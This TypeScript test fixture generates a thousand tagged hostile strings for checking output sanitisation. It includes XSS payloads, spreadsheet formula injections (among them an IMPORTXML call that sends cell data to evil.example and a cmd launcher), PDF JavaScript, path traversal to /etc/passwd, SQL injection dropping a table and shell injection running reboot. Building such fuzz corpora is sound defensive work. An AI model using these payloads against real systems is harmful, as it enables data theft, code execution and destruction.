/**
 * A thousand texts by people who want a reader, a table, a paper, a log or a database to do something.
 * Each carries a word of its own (`heron0042`), by which it is found wherever it must not be.
 */

const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<svg/onload=alert(1)>',
  '</textarea><iframe srcdoc="<script>alert(1)</script>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<!--#exec cmd="ls"-->',
  '<?php system("ls"); ?>',
  '\u003cscript\u003e',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<style>@import url(//evil.example)</style>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
];

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example","click")',
  "=cmd|'/c calc'!A0",
  '=WEBSERVICE("http://evil.example")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  ';=1+1',
  ',=1+1',
  '|=1+1',
  '",=1+1,"',
  '";=1+1;"',
  'x\t=1+1',
  'x;=1+1;x',
  '\u200b=1+1',
  '\u200e=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '-2+3+cmd|" /C calc"!D2',
];

const UNSEEN = [
  '\u202egnp.exe\u202c',
  '\u2066\u202etxet\u2069',
  'a\u0000b',
  '\u0000',
  '\u0007\u0008\u001b[31mred\u001b[0m',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  '\u{10ffff}',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309',
  '\u{e0041}\u{e0042}',
  '\u2028line\u2029paragraph',
  'first\r\nSet-Cookie: a=b',
  'first\n{"level":60,"msg":"forged"}',
  '\u0085next',
];

const PAPERS = [
  ') Tj ET BT (',
  '<< /S /JavaScript /JS (app.alert(1)) >>',
  'endstream endobj 1 0 obj << /OpenAction << /S /Launch >> >>',
  '%PDF-1.7 %%EOF',
  '\\) \\( \\\\',
  '/URI (http://evil.example)',
  '<feff0061>',
  'https://evil.example/a?b=c',
];

const PLACES = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  'a/b/../../c',
  'file.pdf"; filename="evil.exe',
  'x\r\nContent-Disposition: inline',
  '%2e%2e%2f%00.jpg',
  'CON',
  '.htaccess',
  "'; drop table case_file; --",
  "' or '1'='1",
  '$(reboot)`reboot`',
  '__proto__',
  'constructor',
  '%s%s%n',
];

const SCRIPTS_OF_THE_WORLD = [
  'መልእኽተይ ኣይተነበበን',
  'قال لي (لا) 2026 ثم wren',
  'שלום עולם',
  '你好，世界',
  '😢🏳️‍🌈👩‍👩‍👧‍👦',
  'ﷺ﷽',
  'Ω≈ç√∫˜µ≤≥÷',
];

const ALL = [...SCRIPTS, ...FORMULAS, ...UNSEEN, ...PAPERS, ...PLACES, ...SCRIPTS_OF_THE_WORLD];

/** The word by which a text is found. */
export const tagOf = (n: number): string => `heron${String(n).padStart(4, '0')}`;

/** So many texts, always the same ones: each alone, then two or three of them run together, some long. */
export function hostileTexts(count = 1_000): readonly string[] {
  return Array.from({ length: count }, (_, n) => {
    const one = ALL[n % ALL.length] ?? '';
    const other = ALL[(n * 7 + Math.floor(n / ALL.length)) % ALL.length] ?? '';
    const joint = ['', ' ', '\n', ',', ';', '\t', '"'][Math.floor(n / ALL.length) % 7] ?? '';
    // The dangerous part stays first, where it counts.
    const text = n < ALL.length ? `${one}${tagOf(n)}` : `${one}${joint}${other}${tagOf(n)}`;
    return n % 97 === 96 ? text.padEnd(450, 'x').padEnd(480, '\u202e=') : text;
  });
}
